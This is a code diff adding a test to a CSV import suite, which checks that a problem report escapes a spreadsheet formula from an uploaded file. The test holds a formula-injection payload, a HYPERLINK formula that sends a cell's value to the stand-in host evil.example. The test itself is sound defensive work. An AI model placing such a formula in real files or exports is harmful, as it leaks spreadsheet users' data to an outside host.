@@ -1,6 +1,7 @@
 import { mkdtemp, rm } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { JobProgress } from '../../../shared/schemas/realtime.ts';
 import { withDbScope } from '../../platform/db/context.ts';
@@ -120,6 +121,23 @@ describe('single import', () => {
       'mail',
     );
     expect(mail.to).toEqual([org.owner.email]);
+  });
+
+  it('the problem report writes a formula from the uploaded file as text (issue 17 finding 8)', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
+    const header = `Category,Status,Amount,"${formula.replace(/"/g, '""')}"`;
+    const { importId } = await upload(caller, 'formula.csv', `${header}\nok,active,1.00,x\n`);
+    await caller.imports.start({ importId });
+    const done = await settled(org.id, importId);
+    expect(done.status).toBe('invalid');
+    expect(done.errors[0]?.column).toBe(formula);
+    await until(async () => (await importRow(org.id, importId)).reportKey, 'report');
+    const report = await caller.imports.report({ id: importId });
+    const res = await fetch(`${server.url}${new URL(report.url).pathname}${new URL(report.url).search}`);
+    const cells = parse(await res.text()) as string[][];
+    expect(cells[0]).toEqual(['Line', 'Column', 'Reason']);
+    expect(cells[1]?.[1]).toBe(`'${formula}`);
+    for (const row of cells) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
 
   it('a file with 3 bad rows reports exactly those rows and writes nothing', async () => {
